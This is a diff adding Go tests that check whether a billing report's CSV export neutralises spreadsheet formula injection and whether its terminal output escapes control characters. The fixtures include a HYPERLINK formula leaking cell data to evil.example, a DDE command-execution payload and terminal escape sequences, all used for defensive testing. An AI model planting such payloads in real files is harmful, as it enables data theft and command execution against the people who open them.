@@ -1,0 +1,107 @@
+package reports
+
+import (
+	"encoding/csv"
+	"os"
+	"path/filepath"
+	"strings"
+	"testing"
+
+	"github.com/billsnap/billsnap/internal/csvsafe"
+	"github.com/billsnap/billsnap/reconcile"
+)
+
+// formulas are values a hostile service or insider puts where text goes.
+var formulas = []string{`=HYPERLINK("http://evil.example/?"&A1,"open")`, `=cmd|' /C calc'!A0`, "@SUM(A1:A9)", "+SUM(1)", "-2+3", "-", "\t=1", "\r=1"}
+
+// hostile is the fixture with a formula in every text cell a finding has.
+func hostile(t *testing.T) *Input {
+	in := fixture(t)
+	for i := range in.Report.Findings {
+		f := &in.Report.Findings[i]
+		v := formulas[i%len(formulas)]
+		f.Rule, f.Entity, f.EntityID, f.Currency, f.Detail, f.Status, f.FirstSeen, f.Live = v, v, v, v, v, v, v, v
+		f.Waiver = &reconcile.Waiver{Rule: v, EntityID: v, Reason: v, Owner: formulas[(i+1)%len(formulas)], ID: v, By: v}
+	}
+	in.Report.Snapshot.ID = "=1+1"
+	return in
+}
+
+// TestFindingsCSVHasNoLiveFormula writes findings.csv from findings whose
+// every text cell looks like a formula: no cell begins with = @ TAB CR, a
+// cell beginning with + or - is a number in the amount column, and each
+// neutralised cell is its value with a leading '.
+func TestFindingsCSVHasNoLiveFormula(t *testing.T) {
+	in := hostile(t)
+	dir := t.TempDir()
+	if _, err := Write(dir, in, []string{"csv"}); err != nil {
+		t.Fatal(err)
+	}
+	f, err := os.Open(filepath.Join(dir, "findings.csv"))
+	if err != nil {
+		t.Fatal(err)
+	}
+	defer f.Close()
+	rows, err := csv.NewReader(f).ReadAll()
+	if err != nil {
+		t.Fatal(err)
+	}
+	if len(rows) != len(in.Report.Findings)+1 {
+		t.Fatalf("%d rows, want %d", len(rows), len(in.Report.Findings)+1)
+	}
+	neutralised := 0
+	for r, row := range rows[1:] {
+		for c, cell := range row {
+			if live(cell, rows[0][c] == "amount") {
+				t.Errorf("row %d column %s: live cell %q", r+2, rows[0][c], cell)
+			}
+			if strings.HasPrefix(cell, "'") {
+				neutralised++
+			}
+		}
+	}
+	if neutralised < len(in.Report.Findings)*10 {
+		t.Errorf("only %d cells neutralised", neutralised)
+	}
+	if got := rows[1][6]; got != "'"+formulas[0] {
+		t.Errorf("detail = %q, want the value with a leading '", got)
+	}
+	if got := rows[3][4]; got != "-4.50" {
+		t.Errorf("a negative amount became %q, want -4.50", got)
+	}
+}
+
+// live reports whether a spreadsheet could run cell as a formula.
+func live(cell string, numeric bool) bool {
+	if cell == "" {
+		return false
+	}
+	switch cell[0] {
+	case '=', '@', '\t', '\r':
+		return true
+	case '+', '-':
+		return !numeric || !csvsafe.IsDecimal(cell)
+	}
+	return false
+}
+
+// TestTextEscapesControlCharacters gives the terminal summary a waiver,
+// a material line and a field name holding terminal controls: none is
+// written raw.
+func TestTextEscapesControlCharacters(t *testing.T) {
+	r := fixture(t).Report
+	const esc = "\x1b]0;owned\x07\x1b[2J\u009b31m"
+	r.ExpiredWaivers = []reconcile.Waiver{{Rule: "price_mismatch", EntityID: esc, Owner: esc, Expires: r.Findings[3].Waiver.Expires}}
+	r.Material = append(r.Material, esc)
+	r.Unjudged[0].Field = esc
+	var b strings.Builder
+	if err := Text(&b, r); err != nil {
+		t.Fatal(err)
+	}
+	if strings.ContainsAny(b.String(), "\x1b\x07\u009b") {
+		t.Errorf("a control character is written raw:\n%q", b.String())
+	}
+	if n := strings.Count(b.String(), `\x1b]0;owned\x07\x1b[2J\u009b31m`); n != 4 {
+		t.Errorf("the escaped text appears %d times, want 4:\n%s", n, b.String())
+	}
+}
